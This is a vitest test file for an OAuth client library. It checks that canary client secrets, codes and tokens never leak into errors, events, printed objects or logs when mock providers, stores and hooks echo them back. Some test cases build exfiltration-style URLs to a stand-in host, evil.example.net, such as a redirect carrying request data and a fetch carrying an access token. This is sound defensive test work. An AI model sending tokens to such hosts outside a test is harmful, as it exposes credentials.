import { inspect } from 'node:util'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { createBench, exampleKey, exampleProvider, readRecord, type Bench, type BenchOptions } from '../test/bench.ts'
import {
  clientCredentials,
  clientSecretBasic,
  clientSecretPost,
  createAuthClient,
  providerAt,
  refreshToken,
  type ClientAuthentication,
  type Store,
} from './index.ts'
import { spillTo } from './spill.ts'
import { createMemoryStore } from './stores/memory.ts'
import {
  faultyStore,
  findSecrets,
  scriptedFetch,
  type FaultyStore,
  type ScriptedAnswer,
  type ScriptedRequest,
} from './testing/index.ts'

// Marker secrets go through every path; then everything that came out is searched, in every encoding. The only sinks
// that may hold one are the store, the requests to the provider, and the calls that are named for it.

const clientSecret = 'canary-client:secret%+ü~'
const code = 'canary-code-4711'
const session = 'canary-session-0815'
const redirectUri = 'https://app.example.com/callback'
const token = (name: string) => `canary-${name}-token/+=`

/** As it stands in Basic credentials (RFC 6749 §2.3.1): every character but letters and digits is encoded. */
function inBasic(secret: string): string {
  const encoded = encodeURIComponent(secret)
  return encoded.replaceAll(/[-_.!~*'()]/g, (char) => `%${char.charCodeAt(0).toString(16).toUpperCase()}`)
}

/** Everything that must not show, and whatever else was found to be secret on the way. */
function createVault() {
  const secrets: Record<string, string> = {
    clientSecret,
    formEncodedClientSecret: new URLSearchParams({ '': clientSecret }).toString().slice(1),
    basicClientSecret: inBasic(clientSecret),
    code,
    session,
    ...Object.fromEntries(
      ['access1', 'refresh1', 'access2', 'refresh2', 'imported'].map((name) => [name, token(name)]),
    ),
  }
  return {
    secrets,
    /** Secrets that are made on the way: state and verifier. */
    learn(name: string, secret: string | null) {
      if (secret !== null && secret !== '') secrets[name] = secret
    },
  }
}

function tokens(n: number): Response {
  return Response.json({
    access_token: token(`access${n}`),
    refresh_token: token(`refresh${n}`),
    token_type: 'Bearer',
    expires_in: 3600,
    unknown_member: token(`access${n}`),
  })
}

/** Everything a server, a proxy or a broken client could say of a request, in several writings. */
function echo({ method, url, headers, body }: ScriptedRequest): string {
  const basic = headers.get('authorization') ?? ''
  const credentials = basic.startsWith('Basic ') ? atob(basic.slice(6)) : ''
  const plain = new URLSearchParams(body)
  return [method, url, basic, credentials, decodeURIComponent(credentials), body, ...plain.values(), btoa(body)].join(
    ' ',
  )
}

/** The same in pieces, so that each gets past the cut at 200 characters. */
function echoes(request: ScriptedRequest): string[] {
  const basic = request.headers.get('authorization') ?? ''
  const values = [...new URLSearchParams(request.body).values()]
  const credentials = basic.startsWith('Basic ') ? atob(basic.slice(6)) : ''
  const encoded = (value: string) => `${encodeURIComponent(value)} ${btoa(`x${value}`)} ${JSON.stringify({ value })}`
  return [
    echo(request),
    [basic, credentials, decodeURIComponent(credentials)].join(' '),
    request.body,
    request.body.split('&').toReversed().join('&'),
    values.join('\r\n'),
    values.map(encoded).join(' '),
    values.toReversed().map(encoded).join(' '),
  ]
}

const pieces = [0, 1, 2, 3, 4, 5, 6]

const answersThatEcho: [string, (said: string) => ScriptedAnswer][] = [
  ...['invalid_grant', 'invalid_client', 'unknown_error'].map((error): [string, (said: string) => ScriptedAnswer] => [
    error,
    (said) => Response.json({ error, error_description: said, error_uri: said }, { status: 400 }),
  ]),
  ['an error that is the echo', (said) => Response.json({ error: said }, { status: 401 })],
  [
    'an error of the wrong type',
    (said) => Response.json({ error: { said }, error_description: [said] }, { status: 400 }),
  ],
  ['a page', (said) => new Response(`<html>${said}</html>`, { status: 403 })],
  [
    'headers',
    (said) =>
      new Response('', {
        status: 429,
        headers: { 'x-echo': encodeURIComponent(said), location: encodeURIComponent(said) },
      }),
  ],
  ['a server error', (said) => new Response(said, { status: 500, statusText: 'x' })],
  ['200 with a page', (said) => new Response(`<html>${said}`)],
  ['200 with JSON of another kind', (said) => Response.json({ said })],
  ['200 with broken JSON', (said) => new Response(`{"said": ${JSON.stringify(said)}`)],
  ['200 with an unknown token type', (said) => Response.json({ access_token: 'unusable', token_type: said })],
  ['a redirect', (said) => Response.redirect(`https://evil.example.net/?${encodeURIComponent(said)}`, 307)],
  ['an error of the network', (said) => networkError(said)],
]

function networkError(said: string): Error {
  const cause = Object.assign(new Error(`socket hang up: ${said}`), {
    code: said,
    request: { body: said },
    stack: said,
  })
  return Object.assign(new TypeError(`fetch failed: ${said}`, { cause }), { name: said, config: { headers: said } })
}

const methods: [string, () => ClientAuthentication, BenchOptions['provider']][] = [
  ['basic', () => clientSecretBasic(clientSecret), {}],
  ['post', () => clientSecretPost(async () => clientSecret), {}],
]

interface Seen {
  readonly what: string
  readonly value: unknown
}

/** Runs a call and keeps whatever it gives that a program might print. */
async function outcome(seen: Seen[], what: string, call: () => Promise<unknown>): Promise<unknown> {
  try {
    const value = await call()
    seen.push({ what, value })
    return value
  } catch (error) {
    seen.push({ what: `${what} (error)`, value: error })
    return undefined
  }
}

/** Where a secret shows in what was seen. */
function leaks(seen: readonly Seen[], secrets: Record<string, string>): string[] {
  return seen.flatMap(({ what, value }) =>
    findSecrets(value, secrets, { inspect: deepInspect }).map(
      ({ secret, form, where }) => `${what}: ${secret} (${form}) at ${where}`,
    ),
  )
}

const deepInspect = (value: unknown): string => inspect(value, { depth: 12, showHidden: true, getters: true })

// A package prints nothing.
let printed: unknown[] = []

beforeEach(() => {
  printed = []
  for (const method of ['log', 'info', 'warn', 'error', 'debug', 'trace'] as const) {
    vi.spyOn(console, method).mockImplementation((...args: unknown[]) => void printed.push(args))
  }
})

afterEach(() => {
  vi.restoreAllMocks()
  if (printed.length > 0) throw new Error('Something was printed.')
})

async function begin({ client }: Pick<Bench, 'client'>, vault: ReturnType<typeof createVault>): Promise<URL> {
  const { url } = await client.beginAuthorization('ada', { redirectUri, session })
  const state = url.searchParams.get('state')
  vault.learn('state', state)
  return new URL(`${redirectUri}?code=${code}&state=${state}`)
}

describe.each(methods)('with the secret in %s', (_method, authentication, provider) => {
  const options = (more: BenchOptions['options'] = {}): BenchOptions => ({
    provider: { introspectsRefreshTokens: true, ...provider },
    options: { authentication: authentication(), ...more },
  })

  it('nothing shows on the way of a success', async () => {
    const vault = createVault()
    const seen: Seen[] = []
    const bench = createBench([learning(vault, () => tokens(1)), tokens(2), new Response(), new Response()], options())
    bench.connection.onChange((status) => seen.push({ what: 'onChange', value: status }))
    const callback = await begin(bench, vault)
    await outcome(seen, 'completeAuthorization', () => bench.client.completeAuthorization(callback, { session }))
    await outcome(seen, 'accessToken', () => bench.connection.accessToken())
    await outcome(seen, 'refresh', () => bench.run(bench.connection.refresh()))
    await outcome(seen, 'status', () => bench.connection.status())
    await outcome(seen, 'exportTokens', () => bench.connection.exportTokens())
    await outcome(seen, 'disconnect', () => bench.run(bench.connection.disconnect()))
    seen.push(
      { what: 'events', value: bench.events },
      { what: 'client', value: bench.client },
      { what: 'connection', value: bench.connection },
    )
    expect(leaks(seen, vault.secrets)).toEqual([])
    expect(Object.keys(vault.secrets)).toContain('verifier')
    bench.fetch.assertDone()
  })

  it.each(answersThatEcho)('nothing shows when the code is answered with %s', async (_what, answer) => {
    for (const piece of pieces) {
      const vault = createVault()
      const seen: Seen[] = []
      const bench = createBench([learning(vault, (request) => echoing(request, piece, answer))], options())
      const callback = await begin(bench, vault)
      await outcome(seen, 'completeAuthorization', () => bench.client.completeAuthorization(callback, { session }))
      seen.push({ what: 'events', value: bench.events })
      expect(leaks(seen, vault.secrets)).toEqual([])
    }
  })

  it.each(answersThatEcho)(
    'nothing shows when a refresh, an introspection and a revocation are answered with %s',
    async (_what, answer) => {
      for (const first of [0, 4]) {
        const vault = createVault()
        const seen: Seen[] = []
        let next = first
        const bad: ScriptedAnswer = (request) => echoing(request, next++ % pieces.length, answer)
        const bench = createBench([tokens(1), bad, bad, bad, bad, bad, bad, bad], options())
        bench.connection.onChange((status) => seen.push({ what: 'onChange', value: status }))
        await bench.client.connect('ada', refreshToken(token('imported')))
        await outcome(seen, 'first', () => bench.run(bench.connection.accessToken()))
        for (let round = 0; round < 3; round += 1) {
          await bench.clock.advance(3_600_000)
          await outcome(seen, 'accessToken', () => bench.run(bench.connection.accessToken()))
          await outcome(seen, 'status', () => bench.connection.status())
        }
        await outcome(seen, 'disconnect', () => bench.run(bench.connection.disconnect()))
        seen.push({ what: 'events', value: bench.events })
        expect(leaks(seen, vault.secrets)).toEqual([])
        expect(bench.fetch.requests.length).toBeGreaterThan(3)
      }
    },
  )

  it('nothing shows when the provider repeats the callback in its error', async () => {
    for (const error of ['access_denied', 'server_error', code]) {
      const vault = createVault()
      const seen: Seen[] = []
      const bench = createBench([], options())
      const callback = await begin(bench, vault)
      callback.searchParams.set('error', error)
      callback.searchParams.set('error_description', `you sent ${callback.search}`)
      await outcome(seen, 'completeAuthorization', () => bench.client.completeAuthorization(callback, { session }))
      expect(leaks(seen, vault.secrets)).toEqual([])
    }
  })

  it('nothing shows of a callback that is refused', async () => {
    const spoil: ((url: URL) => void)[] = [
      (url) => url.searchParams.append('code', code),
      (url) => url.searchParams.append('state', 'x'),
      (url) => url.searchParams.set('iss', `https://evil.example.net/${code}`),
      (url) => url.searchParams.set('response', code),
      (url) => url.searchParams.set('id_token', code),
      (url) => (url.pathname = `/${code}`),
      (url) => url.searchParams.delete('code'),
      (url) => url.searchParams.set('state', `${url.searchParams.get('state')}x`),
    ]
    for (const [index, change] of spoil.entries()) {
      const vault = createVault()
      const seen: Seen[] = []
      const bench = createBench([], options())
      const callback = await begin(bench, vault)
      change(callback)
      // What the caller itself put into the path may be named; the parameters may not.
      if (index === 5) delete vault.secrets['code']
      await outcome(seen, 'completeAuthorization', () => bench.client.completeAuthorization(callback, { session }))
      await outcome(seen, 'another session', () => bench.client.completeAuthorization(callback, { session: 'foreign' }))
      expect(seen.every(({ value }) => value instanceof Error)).toBe(true)
      expect(leaks(seen, vault.secrets)).toEqual([])
    }
  })

  it('nothing shows when the store quotes what it was given', async () => {
    const vault = createVault()
    const seen: Seen[] = []
    const quoting = (memory: Store): Store => ({
      ...memory,
      write(key, value, writeOptions) {
        if (isBroken)
          return Promise.reject(Object.assign(new Error(`cannot write ${key}: ${value}`), { value, code: value }))
        return memory.write(key, value, writeOptions)
      },
    })
    let isBroken = false
    const bench = createBench([learning(vault, () => tokens(1)), tokens(2)], { ...options(), store: quoting })
    isBroken = true
    await outcome(seen, 'begin', () => bench.client.beginAuthorization('ada', { redirectUri, session }))
    await outcome(seen, 'connect', () => settle(bench, bench.client.connect('ada', refreshToken(token('imported')))))
    isBroken = false
    const callback = await begin(bench, vault)
    isBroken = true
    await outcome(seen, 'completeAuthorization', () =>
      settle(bench, bench.client.completeAuthorization(callback, { session })),
    )
    await outcome(seen, 'disconnect', () => settle(bench, bench.connection.disconnect()))
    isBroken = false
    await bench.client.connect('ada', refreshToken(token('imported')))
    isBroken = true
    await outcome(seen, 'accessToken', () => settle(bench, bench.connection.accessToken()))
    seen.push({ what: 'events', value: bench.events })
    expect(seen.filter(({ value }) => value instanceof Error).length).toBeGreaterThan(3)
    expect(leaks(seen, vault.secrets)).toEqual([])
  })

  it('nothing shows when store and spill quote what they were given, and what the spill gives back is used', async () => {
    const vault = createVault()
    vault.learn('idToken', token('id'))
    const seen: Seen[] = []
    const refusing = { store: false, spill: false }
    const quoting = (plain: Store, which: keyof typeof refusing): Store => ({
      ...plain,
      write(key, value, writeOptions) {
        if (!refusing[which]) return plain.write(key, value, writeOptions)
        // In two pieces: a text is cut at 200 characters.
        const { tokens: kept, spilled } = JSON.parse(value)
        const [message, piece] = [JSON.stringify([spilled?.read.tokens, kept]), String(spilled?.read.idToken)]
        return Promise.reject(Object.assign(new Error(message), { value, code: piece }))
      },
    })
    const answer = { access_token: token('access2'), refresh_token: token('refresh2'), id_token: token('id') }
    const thenRefused: ScriptedAnswer = () => {
      refusing.store = true
      return Response.json({ ...answer, token_type: 'Bearer', expires_in: 3600 })
    }
    const spill = spillTo(quoting(createMemoryStore(), 'spill'), { volatile: 'accept' })
    const bench = createBench([tokens(1), thenRefused], {
      ...options({ spill }),
      store: (memory) => quoting(memory, 'store'),
    })
    await bench.client.connect('ada', refreshToken(token('imported')))
    await bench.run(bench.connection.accessToken())
    await bench.clock.advance(3_600_000)
    refusing.spill = true
    bench.connection.onChange((status) => seen.push({ what: 'onChange', value: status }))
    await outcome(seen, 'accessToken', () => bench.run(bench.connection.accessToken()))
    await outcome(seen, 'disposing', () => bench.run(Promise.resolve(bench.connection[Symbol.asyncDispose]())))
    refusing.spill = false
    await bench.clock.advance(1_000)
    const next = bench.another()
    await outcome(seen, 'accessToken of the next process', () => bench.run(next.connection.accessToken()))
    await outcome(seen, 'status', () => next.connection.status())
    await outcome(seen, 'disconnect', () => settle(bench, next.connection.disconnect()))
    const events = [...bench.events, ...next.events]
    seen.push({ what: 'events', value: events }, { what: 'spill', value: spill })
    expect(JSON.stringify(events)).toMatch(/save_spilled/)
    expect(seen.filter(({ value }) => value instanceof Error).length).toBeGreaterThan(1)
    expect(leaks(seen, vault.secrets)).toEqual([])
  })

  it('nothing shows when answers are lost, late or cut off', async () => {
    const vault = createVault()
    const seen: Seen[] = []
    let store!: FaultyStore
    const bench = createBench([tokens(1), () => new Promise<Response>(() => undefined), tokens(2)], {
      ...options(),
      provider: {},
      store: (memory) => (store = faultyStore(memory)),
    })
    await bench.client.connect('ada', refreshToken(token('imported')))
    await bench.run(bench.connection.accessToken())
    await bench.clock.advance(3_600_000)
    await outcome(seen, 'timed out', () => bench.run(bench.connection.accessToken()))
    await bench.clock.advance(60_000)
    store.fault({ step: 'write' })
    store.fault({ step: 'write', effect: 'throw', times: 30, error: new Error(`not saved: ${token('refresh2')}`) })
    await outcome(seen, 'unsaved', () => bench.run(bench.connection.accessToken()))
    await outcome(seen, 'status', () => bench.connection.status())
    seen.push({ what: 'events', value: bench.events })
    expect(leaks(seen, vault.secrets)).toEqual([])
  })

  it('nothing shows when functions of the app fail with what they were given', async () => {
    const vault = createVault()
    const seen: Seen[] = []
    const bench = createBench([tokens(1)], {
      options: {
        ...options().options,
        onTokenRefresh: async (set) => {
          throw new Error(`cannot keep ${set.accessToken} and ${set.refreshToken}`)
        },
      },
    })
    await bench.client.connect('ada', refreshToken(token('imported')))
    await outcome(seen, 'accessToken', () => bench.run(bench.connection.accessToken()))
    await bench.clock.advance(5_000)
    seen.push({ what: 'events', value: bench.events })
    const broken = createBench([], {
      options: { authentication: clientSecretBasic(() => Promise.reject(networkError(clientSecret))) },
    })
    await broken.client.connect('ada', refreshToken(token('imported')))
    await outcome(seen, 'secret', () => broken.run(broken.connection.accessToken()))
    const callback = await begin(broken, vault)
    await outcome(seen, 'secret of a code', () => broken.client.completeAuthorization(callback, { session }))
    expect(bench.events.map(({ type }) => type)).toContain('hook_failed')
    expect(leaks(seen, vault.secrets)).toEqual([])
  })
})

describe('printing', () => {
  it('an object that holds a secret shows none', async () => {
    const vault = createVault()
    const bench = createBench([tokens(1)], { options: { authentication: clientSecretBasic(clientSecret) } })
    await bench.client.connect('ada', refreshToken(token('imported')))
    const provider = exampleProvider()
    expect(
      leaks(
        [
          { what: 'clientSecretBasic', value: clientSecretBasic(clientSecret) },
          { what: 'clientSecretPost', value: clientSecretPost(clientSecret) },
          { what: 'a secret function', value: clientSecretBasic(() => clientSecret) },
          { what: 'refreshToken', value: refreshToken(token('imported')) },
          { what: 'clientCredentials', value: clientCredentials({ scopes: ['a'] }) },
          { what: 'provider', value: [provider, providerAt(provider, 'http://127.0.0.1:1')] },
          { what: 'client', value: bench.client },
          { what: 'connection', value: bench.connection },
          { what: 'options', value: { authentication: clientSecretBasic(clientSecret), provider } },
          { what: 'access token', value: await bench.run(bench.connection.accessToken()) },
          { what: 'access token as a promise', value: bench.connection.accessToken() },
          { what: 'token set', value: await bench.connection.exportTokens() },
          { what: 'text', value: `${await bench.connection.accessToken()} ${await bench.connection.exportTokens()}` },
          { what: 'status', value: await bench.connection.status() },
        ],
        vault.secrets,
      ),
    ).toEqual([])
  })

  it('a request that was refused for its address shows no token', async () => {
    const bench = createBench([tokens(1)], {})
    await bench.client.connect('ada', refreshToken(token('imported')))
    await bench.run(bench.connection.accessToken())
    const seen: Seen[] = []
    await outcome(seen, 'fetch', () =>
      bench.connection.fetch(`https://evil.example.net/?access_token=${token('access1')}`),
    )
    expect(leaks(seen, createVault().secrets)).toEqual([])
  })

  it('the search itself finds what is there: the store, the requests, and the calls named for it', async () => {
    const { secrets } = createVault()
    const store = createMemoryStore()
    const fetch = scriptedFetch([tokens(1)])
    const client = createAuthClient({
      provider: exampleProvider(),
      clientId: 'c',
      store,
      volatile: 'accept',
      fetch,
      authentication: clientSecretBasic(clientSecret),
    })
    const connection = await client.connect('ada', refreshToken(token('imported')))
    const { value } = await connection.accessToken()
    const { refreshToken: exported } = await connection.exportTokens()
    const names = (found: unknown) =>
      new Set(findSecrets(found, secrets, { inspect: deepInspect }).map(({ secret }) => secret))
    expect(names(value)).toEqual(new Set(['access1']))
    expect(names(exported)).toEqual(new Set(['refresh1']))
    expect(names(await readRecord(store, exampleKey('ada', 'c')))).toEqual(new Set(['access1', 'refresh1']))
    expect(names(fetch.requests[0]?.headers)).toContain('basicClientSecret')
    expect(names(fetch.requests[0]?.body)).toEqual(new Set(['imported']))
  })
})

/** An answer that echoes one piece of its request. */
function echoing(
  request: ScriptedRequest,
  piece: number,
  answer: (said: string) => ScriptedAnswer,
): Response | Promise<Response> {
  const made = answer(echoes(request)[piece] ?? '')
  if (made instanceof Error) return Promise.reject(made)
  return made instanceof Response ? made : made(request)
}

/** Learns the PKCE verifier from the request that redeems a code. */
function learning(
  vault: ReturnType<typeof createVault>,
  answer: (request: ScriptedRequest) => Response | Promise<Response>,
): ScriptedAnswer {
  return (request) => {
    vault.learn('verifier', new URLSearchParams(request.body).get('code_verifier'))
    return answer(request)
  }
}

/** Awaits work that hashes and, at the same time, waits on the fake clock. */
async function settle<T>(bench: Pick<Bench, 'clock'>, work: Promise<T>): Promise<T> {
  let isDone = false
  const done = () => {
    isDone = true
  }
  work.then(done, done)
  while (!isDone) {
    await new Promise((resolve) => void setTimeout(resolve, 1))
    await bench.clock.advance(100)
  }
  return work
}
